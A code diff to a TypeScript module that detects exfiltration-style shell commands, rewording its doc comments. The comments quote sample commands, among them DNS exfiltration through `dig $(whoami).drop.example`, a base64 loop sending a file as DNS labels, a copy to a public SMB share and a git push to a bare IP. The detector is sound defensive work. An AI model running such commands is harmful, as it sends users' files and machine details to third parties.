@@ -14,7 +14,9 @@ const dnsClients: ReadonlySet<string> = new Set([
   'resolvectl',
 ])
 
-/** `dig $(whoami).drop.example`: what a command printed becomes a label of a name that someone else resolves. */
+/**
+ * Does a command put the output of another one into a name that a third party resolves: `dig $(whoami).drop.example`?
+ */
 export function leaksThroughDns({ name, words }: Command): boolean {
   if (!dnsClients.has(name)) return false
   return words.some(
@@ -32,7 +34,10 @@ const encoders: ReadonlySet<string> = new Set([
   'basenc',
 ])
 
-/** `for c in $(base64 -w30 file); do dig $c.x.example; done`: a file, piece by piece, as labels of names. */
+/**
+ * Does a script send a file piece by piece as labels of names: `for c in $(base64 -w30 file); do dig $c.x.example;
+ * done`?
+ */
 export function leaksThroughDnsLoop(lines: readonly Line[]): boolean {
   let encodes = false
   for (const { commands } of lines)
@@ -83,7 +88,7 @@ const machineDetailPrograms: ReadonlySet<string> = new Set([
   'arp',
 ])
 
-/** Does the command tell about the machine and its users? */
+/** Does the command print facts about the machine and its users (`whoami`, `cat /etc/passwd`)? */
 export function printsMachineDetails({ name, args }: Command): boolean {
   if (machineDetailPrograms.has(name)) return true
   return (
@@ -96,7 +101,9 @@ export function printsMachineDetails({ name, args }: Command): boolean {
   )
 }
 
-/** A host that says nothing about whose it is: a bare public IP address, or a place that takes in anything. */
+/**
+ * Does the URL or host not show whose it is: a bare public IP address, or a service that accepts anything from anyone?
+ */
 export function isUnidentifiedHost(text: string): boolean {
   const host =
     /^(?:[a-z]{2,6}:\/\/)?(?:[^@/\s]{1,80}@)?(\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)/i.exec(
@@ -106,7 +113,7 @@ export function isUnidentifiedHost(text: string): boolean {
   return !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.)/.test(host)
 }
 
-/** Programs that copy to where their last operand says, a share of another machine included. */
+/** Programs that copy to their last operand, a share of another machine included. */
 export const copyPrograms: ReadonlySet<string> = new Set([
   'cp',
   'copy',
@@ -118,7 +125,7 @@ export const copyPrograms: ReadonlySet<string> = new Set([
   'robocopy',
 ])
 
-/** `copy db.sql \\203.0.113.5\share`: a share on a public machine without a name. */
+/** Does the command copy to a share on a public machine without a name: `copy db.sql \\203.0.113.5\share`? */
 export function copiesToPublicShare({ name, args }: Command): boolean {
   if (!copyPrograms.has(name)) return false
   return args.some((arg, at) => {
@@ -128,7 +135,7 @@ export function copiesToPublicShare({ name, args }: Command): boolean {
   })
 }
 
-/** A web server over a folder that holds the system or a whole home. */
+/** Does a web server serve a folder that holds the system or a whole home? */
 export function servesPrivateFolder({ name, args }: Command): boolean {
   const at = args.findIndex((arg) => /^(?:-h|-d|--directory|-t|--dir|--root)$/.test(arg))
   const folder = args[at + 1] ?? ''
@@ -142,7 +149,10 @@ export function servesPrivateFolder({ name, args }: Command): boolean {
   )
 }
 
-/** `git remote add x https://203.0.113.9/r.git`, `git push http://…`: the history goes to a machine without a name. */
+/**
+ * Does git push to, or add as a remote, a machine without a name (`git push http://203.0.113.9/r.git`), or push all
+ * refs to a URL that is no remote?
+ */
 export function pushesToThirdParty({ name, args }: Command): boolean {
   if (name !== 'git') return false
   const verb = args.find((arg) => !arg.startsWith('-'))
